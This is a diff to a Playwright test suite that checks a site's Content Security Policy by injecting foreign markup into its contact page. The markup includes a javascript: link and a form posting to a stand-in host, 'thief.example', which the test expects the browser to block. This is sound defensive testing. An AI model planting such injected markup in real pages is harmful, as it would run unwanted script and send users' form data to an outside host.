@@ -61,17 +61,24 @@ const foreignMarkup = `
   <a id="foreign-link" href="javascript:window.ranLink = true">link</a>
   <form id="foreign-form" action="https://thief.example/" method="post"><input name="a"></form>`;
 
+/** The page itself, and not what its links ask for later at the same address. */
+const once = { times: 1 };
+
 test.describe("what a page did not bring itself", () => {
   // The browser says in its console what it refuses, and what it does not find.
   test.use({ expectedTroubles: /Content Security Policy|ERR_BLOCKED|: csp|^csp|404|Trusted/i });
 
   test("does not run, load, frame, style or send", async ({ page, baseURL }) => {
     const refused = await watchPolicy(page);
-    await page.route("/contact", async (route) => {
-      const response = await route.fetch();
-      const body = (await response.text()).replace("</body>", `${foreignMarkup}</body>`);
-      await route.fulfill({ response, body });
-    });
+    await page.route(
+      "/contact",
+      async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace("</body>", `${foreignMarkup}</body>`);
+        await route.fulfill({ response, body });
+      },
+      once,
+    );
     await page.goto("/contact");
     await page.locator("#foreign-link").evaluate((link: HTMLElement) => link.click());
     await page.locator("#foreign-form").evaluate((form: HTMLFormElement) => form.submit());
